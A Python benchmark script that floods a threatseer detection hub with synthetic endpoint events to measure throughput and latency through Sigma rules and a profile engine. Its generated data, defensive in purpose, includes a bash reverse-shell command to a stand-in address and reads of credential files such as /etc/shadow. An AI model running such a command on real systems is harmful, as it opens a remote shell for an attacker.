"""Hub benchmark: throughput and ingest->PUB latency of the real ``threatseer hub`` process.

A recorded mix of events (generated here, deterministic: execs with varied argv, opens of
sensitive and ordinary files, connects, DNS queries, forks and exits, a third of them from
containers) goes through all engines: the default bundle (rules/) plus the SigmaHQ Linux rules
in tests/data/sigmahq, static lists, and the profile engine (learning, then scoring).

Phase 1, throughput: sensor processes push pre-encoded wire batches as fast as the hub takes
them; a SUB counts what comes out (from each message's array header, without copying it: the
counting must not compete with the hub for the machine). Reports events/s (wall) and events
per CPU-second of the hub process (the pipeline is one thread, so that is "per core"). The
phase runs ``--repeat`` times against the same hub, each time as new sensors: the first run
includes learning the profiles of every subject (cold caches), the later ones are the steady
state of a hub that has been up a while. Each run is printed; the key line gives the best run
(``events_per_cpu_s``; on a shared VM a run can lose a third of its speed to a neighbour, and
the best run is the one least disturbed), the median and the first (cold) run.
Phase 2, latency: one sensor process sends 10k events/s (batches of 100 every 10 ms), each
event stamped with its send time; the SUB measures send -> PUB receive, p50/p99.

Usage: .venv/bin/python bench/hub_bench.py [--events N] [--senders K] [--seconds S]
Last line: ``events_per_s=... events_per_cpu_s=... events_per_cpu_s_median=...
events_per_cpu_s_first=... p50_ms=... p99_ms=...``.
"""

from __future__ import annotations

import argparse
import glob
import multiprocessing as mp
import os
import random
import shutil
import signal
import statistics
import subprocess
import tempfile
import time
from pathlib import Path
from typing import Any

import msgpack
import yaml
import zmq
from benchlib import ROOT, THREATSEER, cpu_seconds, free_port

from threatseer.common import ecs, wire

SIGMA = ROOT / "tests" / "data" / "sigmahq" / "rules" / "linux"
BATCH = 500


# -- the recorded mix ----------------------------------------------------------------------
EXES = ["/usr/bin/ls", "/usr/bin/cat", "/usr/bin/grep", "/usr/bin/sed", "/usr/bin/awk",
        "/bin/bash", "/bin/sh", "/usr/bin/python3", "/usr/bin/curl", "/usr/bin/git",
        "/usr/sbin/nginx", "/usr/bin/node", "/usr/bin/java", "/usr/bin/ps", "/usr/bin/sleep",
        "/usr/bin/find", "/usr/bin/tar", "/usr/bin/gzip", "/usr/bin/ssh", "/usr/bin/sudo",
        "/usr/lib/postgresql/15/bin/postgres", "/usr/bin/redis-server", "/usr/bin/dockerd",
        "/usr/bin/containerd-shim", "/usr/bin/systemctl", "/usr/bin/journalctl", "/usr/bin/wget",
        "/usr/bin/nc", "/usr/bin/id", "/usr/bin/whoami", "/usr/bin/uname", "/usr/bin/crontab"]
PARENTS = ["/bin/bash", "/usr/lib/systemd/systemd", "/usr/sbin/cron", "/usr/sbin/sshd",
           "/usr/bin/containerd-shim", "/usr/bin/python3"]
PATHS = ["/etc/passwd", "/etc/shadow", "/etc/group", "/etc/hosts", "/etc/resolv.conf",
         "/etc/ssh/sshd_config", "/root/.ssh/authorized_keys", "/home/alice/.ssh/id_rsa",
         "/etc/sudoers", "/etc/crontab", "/etc/ld.so.preload", "/etc/pam.d/sshd",
         "/var/log/syslog", "/proc/self/status", "/usr/lib/x86_64-linux-gnu/libc.so.6"]
IMAGES = ["nginx:1.25", "postgres:15", "redis:7", "python:3.11-slim", "node:20", "app:1.4.2"]
DOMAINS = ["api.github.com", "pypi.org", "registry.npmjs.org", "example.com", "s3.amazonaws.com",
           "updates.ubuntu.com", "metrics.internal", "db.internal"]


def make_events(n: int, seed: int = 7) -> list[dict[str, Any]]:
    rnd = random.Random(seed)
    out = []
    for i in range(n):
        host = f"web{rnd.randrange(20)}"
        exe = rnd.choice(EXES)
        r = rnd.random()
        action = ("exec" if r < 0.35 else "open" if r < 0.6 else "connect" if r < 0.78
                  else "dns-query" if r < 0.85 else "fork" if r < 0.92 else "exit")
        cat, typ = ecs.CATEGORIES[action]
        ev: dict[str, Any] = {
            "@timestamp": "2026-11-28T02:00:00.000000Z", "event.kind": "event",
            "event.category": cat, "event.type": typ, "event.action": action,
            "event.id": f"bench-{i}", "host.name": host, "host.id": f"id-{host}",
            "process.pid": rnd.randrange(2, 400000), "process.name": exe.rpartition("/")[2][:15],
            "process.executable": exe, "process.parent.pid": rnd.randrange(1, 5000),
            "process.parent.executable": rnd.choice(PARENTS), "user.id": rnd.choice(["0", "1000"]),
            "user.name": "root", "agent.type": "threatseer",
        }
        if rnd.random() < 0.33:
            ev["container.id"] = f"{rnd.randrange(1 << 60):016x}"
            ev["container.image.name"] = rnd.choice(IMAGES)
        if action == "exec":
            args = [exe.rpartition("/")[2]]
            for _ in range(rnd.randrange(0, 5)):
                args.append(rnd.choice(["-l", "-v", "--port", str(rnd.randrange(65536)),
                                        f"/tmp/tmp.{rnd.randrange(1 << 30):x}", "-c", "x",
                                        f"{rnd.randrange(1 << 64):016x}", "/etc/hosts"]))
            if rnd.random() < 0.005:
                args = ["bash", "-c", "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1"]
            ev["process.args"] = args
            ev["process.command_line"] = " ".join(args)
        elif action == "open":
            ev["file.path"] = (rnd.choice(PATHS) if rnd.random() < 0.7
                               else f"/tmp/work-{rnd.randrange(1000)}/f{rnd.randrange(100)}")
            ev["threatseer.open.flags"] = ["read"] if rnd.random() < 0.8 else ["write", "create"]
        elif action == "connect":
            ev["destination.ip"] = f"10.{rnd.randrange(4)}.{rnd.randrange(8)}.{rnd.randrange(255)}"
            ev["destination.port"] = rnd.choice([443, 80, 5432, 6379, 53, 22, 8080])
            ev["network.transport"] = "tcp"
            ev["source.ip"] = "10.0.0.5"
            ev["source.port"] = rnd.randrange(32768, 60999)
        elif action == "dns-query":
            ev["dns.question.name"] = rnd.choice(DOMAINS)
        out.append(ev)
    return out


# -- sensors (separate processes, real wire module) ----------------------------------------
def sender_socket(ctx: zmq.Context, endpoint: str, hwm: int = 1000) -> zmq.Socket:
    """A plaintext DEALER like a sensor's (no resends here: it reads acks only at the end)."""
    sock = ctx.socket(zmq.DEALER)
    sock.setsockopt(zmq.SNDHWM, hwm)
    sock.connect(endpoint)
    return sock


def frames_of(sensor_id: str, seq: int, body: bytes, count: int) -> list[bytes]:
    """One batch; every send has the next sequence number (the hub drops repeats)."""
    return [wire.encode_header(wire.Batch(sensor_id, seq, [], host=sensor_id), count), body]


def flood_sender(endpoint: str, sensor_id: str, events: list[dict[str, Any]], rounds: int,
                 go: Any) -> None:
    ctx = zmq.Context()
    sock = sender_socket(ctx, endpoint, 100)
    bodies = [(wire.encode_body(events[o:o + BATCH]), len(events[o:o + BATCH]))
              for o in range(0, len(events), BATCH)]
    go.wait()
    seq = 0
    for _ in range(rounds):
        for body, count in bodies:
            seq += 1
            sock.send_multipart(frames_of(sensor_id, seq, body, count))
    # Stay connected until the hub has acknowledged the last batch, as a sensor does: ZeroMQ
    # drops what a disconnected peer left unread in the hub's receive pipe.
    deadline = time.monotonic() + 120
    while time.monotonic() < deadline and sock.poll(1000):
        reply = wire.decode_reply(sock.recv_multipart()[-1])  # an ack, or a command (skipped)
        if isinstance(reply, tuple) and reply[1] >= seq:
            break
    sock.setsockopt(zmq.LINGER, -1)
    sock.close()
    ctx.term()


def paced_sender(endpoint: str, events: list[dict[str, Any]], rate: int, seconds: float,
                 go: Any) -> None:
    ctx = zmq.Context()
    sock = sender_socket(ctx, endpoint)
    per = rate // 100  # a batch every 10 ms
    go.wait()
    start = time.monotonic()
    seq = 0
    pos = 0
    while time.monotonic() - start < seconds:
        seq += 1
        batch = [dict(e) for e in events[pos:pos + per]]
        pos = (pos + per) % (len(events) - per)
        now = time.time_ns()
        for e in batch:
            e["event.sequence"] = now  # the send time (ns): a long the rules never read
        sock.send_multipart(frames_of("paced", seq, wire.encode_body(batch), len(batch)))
        delay = start + seq * 0.01 - time.monotonic()
        if delay > 0:
            time.sleep(delay)
    sock.setsockopt(zmq.LINGER, -1)
    sock.close()
    ctx.term()


# -- the hub -------------------------------------------------------------------------------
def build_bundle(tmp: str) -> str:
    bundle = os.path.join(tmp, "bundle")
    shutil.copytree(ROOT / "rules" / "default", bundle)
    # The default bundle vendors part of the same tree under sigma/linux: copying over it
    # keeps one copy of each rule (the loader refuses a Sigma id defined twice).
    n = 0
    for f in glob.glob(str(SIGMA / "**" / "*.yml"), recursive=True):
        dest = os.path.join(bundle, "sigma", "linux", os.path.relpath(f, SIGMA))
        os.makedirs(os.path.dirname(dest), exist_ok=True)
        shutil.copy(f, dest)
        n += 1
    print(f"bundle: rules/default + SigmaHQ's {n} Linux rules (one copy each)")
    return bundle


def start_hub(tmp: str, bundle: str | None, profiles: bool = True,
              extra: dict[str, Any] | None = None) -> tuple[subprocess.Popen[str], str, str]:
    """A ``threatseer hub`` process on free ports; ``extra`` adds config sections (the
    console bench turns the console on)."""
    ingest, pub = f"tcp://127.0.0.1:{free_port()}", f"tcp://127.0.0.1:{free_port()}"
    cfg = {"ingest": {"endpoint": ingest, "rcv_hwm": 1000},
           "publish": {"endpoint": pub, "snd_hwm": 0},
           "metrics": {"listen": ""}, "plaintext": True,
           "actions": {"toss_below": -1_000_000, "alert_at": 80},
           "profiles": {"enabled": profiles, "learn_seconds": 0, "learn_min_events": 50},
           "state_dir": os.path.join(tmp, "state"), "log_level": "warning"}
    if bundle:
        cfg["bundle"] = bundle
        cfg["admin"] = {"allow_unsigned": True}  # the repository's bundle, unsigned
    cfg.update(extra or {})
    path = os.path.join(tmp, "hub.yaml")
    Path(path).write_text(yaml.safe_dump(cfg))
    proc = subprocess.Popen([THREATSEER, "hub", "-c", path], stderr=subprocess.PIPE, text=True)
    seen = []
    while True:  # log lines (the plaintext warning) may come first
        line = proc.stderr.readline()  # type: ignore[union-attr]
        seen.append(line)
        if "hub ready" in line or not line:
            break
    if "hub ready" not in line:
        proc.kill()
        raise SystemExit(f"hub did not start: {''.join(seen)}")
    return proc, ingest, pub


def subscriber(ctx: zmq.Context, pub: str) -> zmq.Socket:
    sub = ctx.socket(zmq.SUB)
    sub.setsockopt(zmq.RCVHWM, 0)
    sub.setsockopt(zmq.SUBSCRIBE, b"")
    sub.connect(pub)
    return sub


def wait_subscribed(ctx: zmq.Context, ingest: str, sub: zmq.Socket) -> None:
    push = sender_socket(ctx, ingest)
    probe = wire.encode_body(make_events(1))
    sid = f"probe-{time.time_ns()}"  # a new sensor each time: its batches start at 1
    for i in range(200):
        push.send_multipart(frames_of(sid, i + 1, probe, 1))
        if sub.poll(100):
            break
    else:
        raise SystemExit("no output from the hub")
    while sub.poll(300):
        sub.recv_multipart()
    push.close(linger=0)


def array_length(frame: zmq.Frame) -> int:
    """The item count of the msgpack array in ``frame``, read from its header alone."""
    head = bytes(frame.buffer[:5])
    if head[0] & 0xF0 == 0x90:
        return head[0] & 0x0F
    if head[0] == 0xDC:
        return int.from_bytes(head[1:3], "big")
    if head[0] == 0xDD:
        return int.from_bytes(head[1:5], "big")
    raise SystemExit(f"published body is not a msgpack array (first byte {head[0]:#x})")


def throughput(ingest: str, pub: str, hub_pid: int, events: list[dict[str, Any]],
               senders: int, rounds: int, run: int = 0) -> tuple[float, float]:
    ctx = zmq.Context()
    sub = subscriber(ctx, pub)
    wait_subscribed(ctx, ingest, sub)
    go = mp.Event()
    procs = [mp.Process(target=flood_sender, args=(ingest, f"sensor-{run}-{k}", events, rounds,
                                                      go))
             for k in range(senders)]
    for p in procs:
        p.start()
    time.sleep(1.0)  # senders encode their batches first
    total = senders * rounds * len(events)
    cpu0 = cpu_seconds(hub_pid)
    t0 = time.perf_counter()
    go.set()
    got = 0
    while got < total and sub.poll(10_000):
        got += array_length(sub.recv_multipart(copy=False)[1])
    wall = time.perf_counter() - t0
    cpu = cpu_seconds(hub_pid) - cpu0
    for p in procs:
        p.join()
    ctx.destroy(linger=0)
    if got < total:
        print(f"WARNING: received {got} of {total} events")
    print(f"throughput run {run + 1}: {got} events from {senders} sensors in {wall:.2f} s "
          f"wall, hub CPU {cpu:.2f} s: {got / cpu if cpu else 0:.0f} events per CPU-second")
    return got / wall, got / cpu if cpu else 0.0


def latency(ingest: str, pub: str, events: list[dict[str, Any]], rate: int,
            seconds: float) -> tuple[float, float, int]:
    ctx = zmq.Context()
    sub = subscriber(ctx, pub)
    wait_subscribed(ctx, ingest, sub)
    go = mp.Event()
    proc = mp.Process(target=paced_sender, args=(ingest, events, rate, seconds, go))
    proc.start()
    time.sleep(0.5)
    go.set()
    lat = []
    unpack = msgpack.unpackb
    while sub.poll(2000):
        _topic, body = sub.recv_multipart()
        now = time.time_ns()
        for ev in unpack(body, raw=False):
            sent = ev.get("event.sequence")
            if sent:
                lat.append((now - sent) / 1e6)
    proc.join()
    ctx.destroy(linger=0)
    lat.sort()
    if not lat:
        raise SystemExit("no latency samples")
    p50, p99 = lat[len(lat) // 2], lat[int(len(lat) * 0.99)]
    print(f"latency at {rate} events/s for {seconds:.0f} s: {len(lat)} events, "
          f"p50 {p50:.2f} ms, p99 {p99:.2f} ms, max {lat[-1]:.2f} ms")
    return p50, p99, len(lat)


def main() -> None:
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--events", type=int, default=50_000, help="distinct events in the mix")
    ap.add_argument("--senders", type=int, default=2)
    ap.add_argument("--rounds", type=int, default=3, help="times each sender sends the mix")
    ap.add_argument("--repeat", type=int, default=5, help="throughput runs (see above)")
    ap.add_argument("--rate", type=int, default=10_000)
    ap.add_argument("--seconds", type=float, default=10.0)
    ap.add_argument("--no-rules", action="store_true", help="empty bundle (engine overhead)")
    ap.add_argument("--no-profiles", action="store_true", help="profile engine off")
    args = ap.parse_args()
    mp.set_start_method("fork")
    events = make_events(args.events)
    kinds: dict[str, int] = {}
    for e in events:
        kinds[e["event.action"]] = kinds.get(e["event.action"], 0) + 1
    print("mix: " + ", ".join(f"{k} {v / len(events):.0%}" for k, v in sorted(kinds.items())))
    with tempfile.TemporaryDirectory() as tmp:
        bundle = None if args.no_rules else build_bundle(tmp)
        hub, ingest, pub = start_hub(tmp, bundle, not args.no_profiles)
        try:
            runs = [throughput(ingest, pub, hub.pid, events, args.senders, args.rounds, run)
                    for run in range(max(1, args.repeat))]
            p50, p99, _n = latency(ingest, pub, events, args.rate, args.seconds)
        finally:
            hub.send_signal(signal.SIGTERM)
            try:
                hub.wait(30)
            except subprocess.TimeoutExpired:
                hub.kill()
    eps, ecpu = max(runs, key=lambda r: r[1])
    median = statistics.median(r[1] for r in runs)
    print(f"target >= 100000 events/s per core: {ecpu / 100_000:.2f}x best run, "
          f"{median / 100_000:.2f}x median, {runs[0][1] / 100_000:.2f}x first (cold) run; "
          f"target p99 <= 20 ms: {20 / p99:.2f}x headroom")
    print(f"events_per_s={eps:.0f} events_per_cpu_s={ecpu:.0f} events_per_cpu_s_median={median:.0f} "
          f"events_per_cpu_s_first={runs[0][1]:.0f} p50_ms={p50:.2f} p99_ms={p99:.2f}")


if __name__ == "__main__":
    main()
